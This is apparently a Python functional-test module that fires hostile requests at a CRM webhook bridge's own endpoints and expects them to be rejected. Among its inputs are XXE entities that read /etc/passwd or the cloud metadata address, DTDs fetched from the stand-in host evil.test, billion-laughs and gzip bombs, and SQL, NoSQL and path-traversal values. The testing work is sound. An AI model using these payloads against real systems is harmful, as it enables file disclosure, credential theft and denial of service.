"""Attacks on the webhook doors; those on bodies come with the right secret or signature, as a stolen one would."""

from __future__ import annotations

import gzip
import json
from collections.abc import Callable, Iterator
from dataclasses import replace

from crmbridge.runtime.doors import BODY_MAX
from tests.functional.attacks.attack import Attack
from tests.functional.attacks.genuine import (
    BUILDERS,
    FORM,
    SOAP,
    XML,
    Sent,
    Told,
    account_of,
    genuine,
    signed,
)
from tests.functional.attacks.signature_attacks import SIGNING, signature_attacks
from tests.matrix.house import House

UNSIGNED = tuple(crm for crm in BUILDERS if crm != SIGNING)
STRANGERS = {
    "hubspot": "99999",
    "salesforce": "00D000000000099EAA",
    "pipedrive": "99999",
    "zoho": "99999",
    "freshsales": "rival.myfreshworks.com",
    "kommo": "99999",
    "dynamics": "11111111-1111-4111-8111-111111111111",
}
"""Accounts that are not the integration's."""


# ------------------------------------------------------------------------------------------------ secrets in paths


def _path(crm: str, change: Callable[[str], str]) -> Callable[[House], Sent]:
    def make(house: House) -> Sent:
        sent = genuine(house, crm)
        return sent.with_secret(change(sent.secret))

    return make


_SECRETS: dict[str, Callable[[str], str]] = {
    "no secret": lambda _: "",
    "another secret": lambda secret: "A" * len(secret),
    "a secret cut off": lambda secret: secret[:-1],
    "a secret with more behind it": lambda secret: f"{secret}x",
    "a secret in other letters": str.swapcase,
    "a secret with a zero byte": lambda secret: f"{secret}\x00",
    "a secret escaped once more": lambda secret: f"%{ord(secret[0]):02x}{secret[1:]}",
    "a secret of blanks": lambda _: "%20",
    "a pattern for a secret": lambda _: "*",
    "a query for a secret": lambda _: "' OR '1'='1",
}


def path_attacks() -> Iterator[Attack]:
    for crm in UNSIGNED:
        for name, change in _SECRETS.items():
            yield Attack(f"{crm}: {name}", _path(crm, change), (401, 404))
        yield Attack(f"{crm}: the secret of another CRM", _of_another(crm), (401, 404))


def _of_another(crm: str) -> Callable[[House], Sent]:
    other = UNSIGNED[(UNSIGNED.index(crm) + 1) % len(UNSIGNED)]
    return lambda house: genuine(house, crm).with_secret(genuine(house, other).secret)


# ------------------------------------------------------------------------------------------------ bodies


def _body(crm: str, change: Callable[[Sent], Sent]) -> Callable[[House], Sent]:
    """Change a genuine call's body and let it be signed anew where its CRM signs."""

    def make(house: House) -> Sent:
        sent = change(genuine(house, crm))
        return signed(house, sent) if crm == SIGNING else sent

    return make


def _deep(sent: Sent) -> Sent:
    if sent.headers["content-type"] == XML:
        return replace(sent, body=sent.body.replace("<sf:LastName>", "<a>" * 500 + "</a>" * 500 + "<sf:LastName>"))
    if sent.headers["content-type"] == FORM:
        return replace(sent, body=f"{sent.body}&leads{'[x]' * 500}=1")
    return replace(sent, body="[" * 50_000 + "]" * 50_000)


def _other_type(sent: Sent) -> Sent:
    return replace(sent, body="\x89PNG\r\n", headers={**sent.headers, "content-type": "image/png"})


_BODIES: dict[str, Callable[[Sent], Sent]] = {
    "an empty body": lambda sent: replace(sent, body=""),
    "a body cut off": lambda sent: replace(sent, body=sent.body[: len(sent.body) // 3]),
    "bytes that are no UTF-8": lambda sent: sent.raw(b"\xff\xfe\xfa" + sent.body.encode()),
    "a surrogate in the text": lambda sent: replace(sent, body="\ud800" + sent.body),
    "two byte order marks": lambda sent: sent.raw(b"\xef\xbb\xbf" * 2 + sent.body.encode()),
    "a compressed body": lambda sent: sent.raw(gzip.compress(sent.body.encode())).with_headers(content_encoding="gzip"),
    "a bomb of compressed zeros": lambda sent: sent.raw(gzip.compress(b"0" * 30_000_000)).with_headers(
        content_encoding="gzip"
    ),
    "a body larger than a megabyte": lambda sent: replace(sent, body=sent.body + " " * BODY_MAX),
    "a body nested without end": _deep,
    "a body that is a picture": _other_type,
    "a body of zero bytes": lambda sent: replace(sent, body="\x00" * 100),
}
_FLAGS: dict[str, Callable[[Sent], Sent]] = {
    "a text that claims to be Base64": lambda sent: replace(sent, body="%%%" + sent.body, is_base64=True),
    "Base64 with a stranger in it": lambda sent: replace(sent.raw(b"{}"), body="YQ==\u00fc"),
}


def body_attacks() -> Iterator[Attack]:
    for crm in BUILDERS:
        for name, change in _BODIES.items():
            yield Attack(f"{crm}: {name}", _body(crm, change))
        for name, change in _FLAGS.items():
            yield Attack(f"{crm}: {name}", _unsigned(crm, change))
    for crm in UNSIGNED:
        yield Attack(f"{crm}: of another account", _stranger(crm), (401,))
    for crm in ("salesforce", "kommo", "dynamics"):
        yield Attack(
            f"{crm}: another content type", _body(crm, lambda sent: sent.with_headers(content_type="text/plain"))
        )
        yield Attack(f"{crm}: no content type", _body(crm, lambda sent: sent.with_headers(content_type="")))
        yield Attack(f"{crm}: not posted", _body(crm, lambda sent: replace(sent, method="GET")))


def _unsigned(crm: str, change: Callable[[Sent], Sent]) -> Callable[[House], Sent]:
    return lambda house: change(genuine(house, crm))


def _stranger(crm: str) -> Callable[[House], Sent]:
    return lambda house: genuine(house, crm, Told(account=STRANGERS[crm]))


# ------------------------------------------------------------------------------------------------ forms


def form_attacks() -> Iterator[Attack]:
    bombs = {
        "a form of two hundred thousand parts": lambda sent: replace(
            sent, body="&".join(["a[b][c]=1"] * 200_000)[:BODY_MAX]
        ),
        "a form that says one thing in two ways": lambda sent: replace(sent, body=f"{sent.body}&leads[update]=1"),
        "a form with keys that cannot be read": lambda sent: replace(sent, body=f"{sent.body}&leads[update[0]]=1"),
        "a form without parts": lambda sent: replace(sent, body="leads"),
        "a form whose id is a path": lambda sent: replace(sent, body=sent.body.replace("=1&", "=..%2F1&")),
        "a form with an endless id": lambda sent: replace(sent, body=sent.body.replace("=1&", f"={'9' * 4000}&")),
    }
    for name, change in bombs.items():
        yield Attack(f"kommo: {name}", _unsigned("kommo", change))

    def bomb(house: House) -> Sent:
        sent = genuine(house, "freshsales")
        return replace(sent, body="&".join(f"a{n}=1" for n in range(5000)), headers={"content-type": FORM})

    yield Attack("freshsales: a form of five thousand parts", bomb)


# ------------------------------------------------------------------------------------------------ XML

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_DOCTYPES = {
    "a billion laughs": f'<!DOCTYPE l [<!ENTITY l0 "lol">{LAUGHS}]>',
    "a quadratic blow-up": f'<!DOCTYPE l [<!ENTITY l9 "{"a" * 50_000}">]>',
    "an entity from a file": '<!DOCTYPE l [<!ENTITY l9 SYSTEM "file:///etc/passwd">]>',
    "an entity from the instance's metadata": '<!DOCTYPE l [<!ENTITY l9 SYSTEM "http://169.254.169.254/latest/">]>',
    "an entity of parameters": '<!DOCTYPE l [<!ENTITY % p SYSTEM "http://evil.test/x.dtd"> %p;<!ENTITY l9 "x">]>',
    "a definition from elsewhere": '<!DOCTYPE l SYSTEM "http://evil.test/x.dtd">',
    "a definition without entities": "<!DOCTYPE l>",
}


def xml_attacks() -> Iterator[Attack]:
    for name, doctype in _DOCTYPES.items():
        text = "&l9;" if "l9" in doctype else "x"
        yield Attack(f"salesforce: {name}", _soap(doctype, text))
    changes: dict[str, Callable[[Sent], Sent]] = {
        "an entity nobody defined": lambda sent: replace(sent, body=sent.body.replace("Ana Prado", "&nobody;")),
        "UTF-16 that says it is UTF-8": lambda sent: sent.raw(sent.body.encode("utf-16")),
        "a message without notifications": lambda sent: replace(
            sent, body=sent.body.partition("<Notification>")[0] + "</notifications></soapenv:Body></soapenv:Envelope>"
        ),
        "a message without an organisation": lambda sent: replace(
            sent, body=sent.body.replace("OrganizationId", "Other")
        ),
        "a message of another namespace": lambda sent: replace(
            sent, body=sent.body.replace("2005/09/outbound", "evil")
        ),
        "JSON in place of XML": lambda sent: replace(sent, body=json.dumps({"OrganizationId": "x"})),
        "two documents in one": lambda sent: replace(sent, body=sent.body + sent.body.partition("?>")[2]),
    }
    for name, change in changes.items():
        yield Attack(f"salesforce: {name}", _unsigned("salesforce", change))


def _soap(doctype: str, text: str) -> Callable[[House], Sent]:
    def make(house: House) -> Sent:
        account = account_of(house, "salesforce")
        return replace(
            genuine(house, "salesforce"), body=SOAP.format(doctype=doctype, account=account, number=1, text=text)
        )

    return make


# ------------------------------------------------------------------------------------------------ second proofs


def _header(crm: str, **headers: str) -> Callable[[House], Sent]:
    return lambda house: genuine(house, crm).with_headers(**headers)


def proof_attacks() -> Iterator[Attack]:
    basic = {
        "a wrong password": "Basic Y3JtYnJpZGdlOndyb25n",
        "a password that is no Base64": "Basic %%%",
        "a password that is no UTF-8": "Basic /////w==",
        "another scheme": "Bearer abc",
        "an empty authorisation": "",
    }
    for name, value in basic.items():
        yield Attack(f"pipedrive: {name}", _header("pipedrive", authorization=value), (401,))
    yield Attack("dynamics: a wrong key in the header", _header("dynamics", x_crmbridge_key="wrong"), (401,))
    tokens: dict[str, object] = {
        "no token": None,
        "an empty token": "",
        "a token without proof": "20098811734",
        "a token with half a character": "\ud83d",
        "a token with another's proof": f"20098811734.{'0' * 28}",
        "a token of another type": {"a": 1},
    }
    for name, token in tokens.items():
        yield Attack(f"zoho: {name}", _told("zoho", token=token), (401,))


def _told(crm: str, **more: object) -> Callable[[House], Sent]:
    return lambda house: genuine(house, crm, Told(more=more))


# ------------------------------------------------------------------------------------------------ ids in bodies

_IDS: dict[str, object] = {
    "a path for an id": "1/../../2",
    "an id of digits without end": "9" * 4000,
    "an id that is true": True,
    "an id that is a list": [1],
    "an id that is an object": {"$gt": ""},
    "an id in other digits": "١٢٣",
}
_ID_PLACES = {"hubspot": "objectId", "pipedrive": "entity_id"}


def id_attacks() -> Iterator[Attack]:
    for crm, place in _ID_PLACES.items():
        for name, value in _IDS.items():
            yield Attack(f"{crm}: {name}", _told(crm, **{place: value}), (400,))
    for name, value in _IDS.items():
        yield Attack(f"zoho: {name}", _told("zoho", ids=[value]), (400,))
        yield Attack(f"dynamics: {name} for an organisation", _told("dynamics", OrganizationId=value), (400,))
    yield Attack("zoho: ten thousand records", _told("zoho", ids=[str(n) for n in range(10_000)]), (400,))


def webhook_attacks() -> list[Attack]:
    """Return every attack on a webhook door."""
    makers = (
        path_attacks,
        body_attacks,
        form_attacks,
        xml_attacks,
        signature_attacks,
        proof_attacks,
        id_attacks,
    )
    return [attack for make in makers for attack in make()]
